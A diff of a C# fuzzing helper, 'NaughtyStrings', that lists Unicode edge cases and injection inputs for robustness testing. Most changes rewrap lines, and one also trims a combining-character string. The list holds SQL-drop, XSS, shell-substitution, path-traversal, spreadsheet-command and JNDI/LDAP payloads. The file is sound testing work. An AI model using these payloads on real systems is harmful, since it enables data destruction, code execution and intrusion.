@@ -3,7 +3,8 @@ using System.Text;
 namespace Millrace.Generate;
 
 /// <summary>Text that breaks careless software, as JSON string literals without the quotes.</summary>
-/// <remarks>Each is sent as it stands here, escapes and all, and those that can be are sent as plain UTF-8 too.</remarks>
+/// <remarks>Each is sent as it stands here, escapes and all, and those that can be are sent as plain UTF-8
+/// too.</remarks>
 internal static class NaughtyStrings
 {
     private static readonly string[] Escaped =
@@ -16,20 +17,24 @@ internal static class NaughtyStrings
         // Surrogates: paired, alone, the wrong way round.
         @"\ud83d\ude00", @"\ud800", @"\udc00tail", @"\udc00\ud800", @"half\ud83d",
         // Directions and zero width.
-        @"\u202eexe.gnp", @"\u2066left\u2069\u2067right\u2069", @"zero\u200bwidth\u200cjoin\u200d", @"\u200f\u200e\u061c",
+        @"\u202eexe.gnp", @"\u2066left\u2069\u2067right\u2069", @"zero\u200bwidth\u200cjoin\u200d",
+        @"\u200f\u200e\u061c",
         @"soft\u00adhyphen", @"\u00a0\u2003\u3000", @"pass\u2060word",
         // Combining, composed or not, and letters that grow or shrink with their case.
-        @"Z\u0334\u0321\u0339\u0353\u0322\u0310\u0305\u0311\u030a\u0303\u0308a\u0327\u0322\u031b\u0301\u0302l\u0335\u0327g\u0337o",
+        @"Z\u0334\u0321\u0339\u0353\u0322\u0310\u0305\u0311\u030a\u0303\u0308a\u0327\u0322\u031b\u0301\u0302l\u0335",
         @"caf\u00e9 cafe\u0301", "ß SS ẞ", "İstanbul ıI", "ǆ ǅ Ǆ", "ﬁ ligature", "Ω Ω",
         // Emoji of many parts, scripts, planes.
         "👨‍👩‍👧‍👦", "🏳️‍🌈🏴‍☠️", "👍🏿", "🇩🇪🇫", "𝒳𝔜 𐍈", "田中さんにあげて下さい", "הָיְתָה", "مُنَاقَشَةُ", "กำ้", "हिन्दी",
         // Injections: SQL, script, template, shell, path, spreadsheet, log, format.
-        "'; DROP TABLE events; --", @"\u0027 OR \u00271\u0027=\u00271", @"1\u003b SELECT pg_sleep(10)", "$$; ATTACH '/tmp/x'",
+        "'; DROP TABLE events; --", @"\u0027 OR \u00271\u0027=\u00271", @"1\u003b SELECT pg_sleep(10)",
+        "$$; ATTACH '/tmp/x'",
         @"<script>alert(1)</script>", @"\u003cimg src=x onerror=alert(1)\u003e", "{{7*7}} ${7*7} #{7*7} <%= 7 %>",
-        "$(touch /tmp/pwned) `id`", "../../../../etc/passwd%00", "C:\\\\Windows\\\\System32", "=HYPERLINK(\\\"//x\\\",1)",
+        "$(touch /tmp/pwned) `id`", "../../../../etc/passwd%00", "C:\\\\Windows\\\\System32", 
+        "=HYPERLINK(\\\"//x\\\",1)",
         "+1+cmd|' /C calc'!A0", "@SUM(1,2)", "a,b;c\\td\\\"e", "${jndi:ldap://x/a}", "%s%n%x%99999d", "{0}{1}",
         // JSON inside JSON, and its ends.
-        @"{\""event\"":\""fake\""}", @"\""},{\""event\"":\""fake\""}", @"\\\""", @"\/\b\f\n\r\t", "]]>", "__proto__", "constructor",
+        @"{\""event\"":\""fake\""}", @"\""},{\""event\"":\""fake\""}", @"\\\""", @"\/\b\f\n\r\t", "]]>",
+        "__proto__", "constructor",
     ];
 
     private static readonly byte[][] All = [.. Forms()];
